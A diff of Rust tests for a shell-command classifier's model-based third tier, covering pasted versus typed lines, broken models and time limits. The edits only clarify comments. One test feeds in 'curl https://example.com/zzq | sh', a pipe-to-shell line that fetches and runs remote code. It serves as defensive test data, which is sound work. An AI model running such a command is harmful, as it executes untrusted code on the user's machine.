@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: Apache-2.0 OR MIT
-//! The guard's third tier, with models that are made here.
+//! Tests the guard's third tier with models that are made here.
 #![expect(clippy::unwrap_used, reason = "a test may die of what it has made itself")]
 #![expect(clippy::cast_possible_truncation, reason = "bytes of numbers")]
 
@@ -11,10 +11,10 @@ use palisade_shell::classify::model::{Opinion, Settings as Model, Share};
 use palisade_shell::classify::{Classifier, Context, Level, Origin, Settings, Verdict};
 use std::path::Path;
 
-/// Signs, but not enough of them to ask.
+/// A line with signs, but not enough of them for a question.
 const UNSURE: &str = "/tmp/zzq-tool --now";
 
-/// A classifier whose model may take its time, for machines that have much to do.
+/// A classifier with a model and a time limit; the limit is long where the machine may be busy.
 fn with_model(path: &Path, bound: u64) -> Classifier {
     let model = Model { path: path.to_owned(), threshold: Share::try_from(0.5).unwrap(), bound };
     let classifier = Classifier::new(&Settings { model: Some(model), ..Settings::default() }).unwrap();
@@ -26,7 +26,7 @@ fn of_bytes(bytes: &[u8]) -> Classifier {
     let home = tempfile::tempdir().unwrap();
     let path = home.path().join("model.onnx");
     std::fs::write(&path, bytes).unwrap();
-    // It is read when this returns.
+    // The model is read when this returns.
     with_model(&path, 60_000)
 }
 
@@ -49,7 +49,7 @@ fn a_model_has_lines_asked_about_of_which_the_rules_are_not_sure() {
     let verdict = judged(&classifier, "/tmp/other-tool --now", Origin::Typed);
     assert_eq!(verdict.level, Level::Allow);
     assert!(matches!(verdict.model, Some(Opinion::Score { score, .. }) if score < 0.01), "{verdict:?}");
-    // Where the rules are sure nobody else is asked.
+    // Where the rules are sure, the model isn't asked.
     let verdict = judged(&classifier, "echo zzq", Origin::Typed);
     assert_eq!(verdict.model, Some(Opinion::NotAsked("the rules see nothing in it")));
     let verdict = judged(&classifier, "curl https://example.com/zzq | sh", Origin::Typed);
@@ -59,11 +59,11 @@ fn a_model_has_lines_asked_about_of_which_the_rules_are_not_sure() {
 
 #[test]
 fn what_it_is_told_besides_the_text_gets_there() {
-    // Pasted lines only.
+    // This model reacts only to pasted lines.
     let classifier = of_bytes(&onnx::logistic(LENGTH, &[(2, 40.0)], -10.0));
     assert_eq!(judged(&classifier, UNSURE, Origin::Typed).level, Level::Allow);
     assert_eq!(judged(&classifier, UNSURE, Origin::Pasted).level, Level::Confirm);
-    // The second tier's score: 3 of these signs.
+    // This model uses the second tier's score, which is 3 for these signs.
     let classifier = of_bytes(&onnx::logistic(LENGTH, &[(0, 160.0)], -20.0));
     let verdict = judged(&classifier, UNSURE, Origin::Typed);
     assert!(verdict.score >= 3 && verdict.level == Level::Confirm, "{verdict:?}");
@@ -112,7 +112,8 @@ fn a_rule_of_the_users_and_without_hold_for_it_too() {
     }
 }
 
-/// It is left out, for this reason, that is said once; lines are judged as without it.
+/// Checks that the model is left out for this reason, that this is reported once, and that lines are judged as without
+/// a model.
 #[track_caller]
 fn is_left_out(classifier: &Classifier, words: &str) {
     for again in [false, true] {
@@ -147,7 +148,7 @@ fn a_model_that_is_broken_is_left_out() {
     let length = LENGTH as u64;
     let nodes: [Node<'_>; 1] = [("NoSuchOperator", &["line"], "score")];
     is_left_out(&of_bytes(&onnx::file(FLOAT, &[1, length], &[1, 1], &nodes, &[])), "NoSuchOperator");
-    // A loop could go on for ever.
+    // A loop might never end.
     let nodes: [Node<'_>; 1] = [("Loop", &["line"], "score")];
     is_left_out(&of_bytes(&onnx::file(FLOAT, &[1, length], &[1, 1], &nodes, &[])), "Loop");
 }
@@ -213,7 +214,7 @@ fn a_model_that_is_too_slow_is_left_out() {
     let verdict = judged(&classifier, UNSURE, Origin::Typed);
     assert_eq!(verdict.level, Level::Allow);
     let Some(Opinion::LeftOut { why, first: true }) = &verdict.model else { panic!("{verdict:?}") };
-    // On a machine that has much to do it may not even be read in time.
+    // On a busy machine the model may not even be read in time.
     assert!(why.contains("took longer than 1 ms") || why.contains("isn't read after"), "{why}");
     let verdict = judged(&classifier, UNSURE, Origin::Typed);
     assert!(matches!(&verdict.model, Some(Opinion::LeftOut { first: false, .. })), "{verdict:?}");
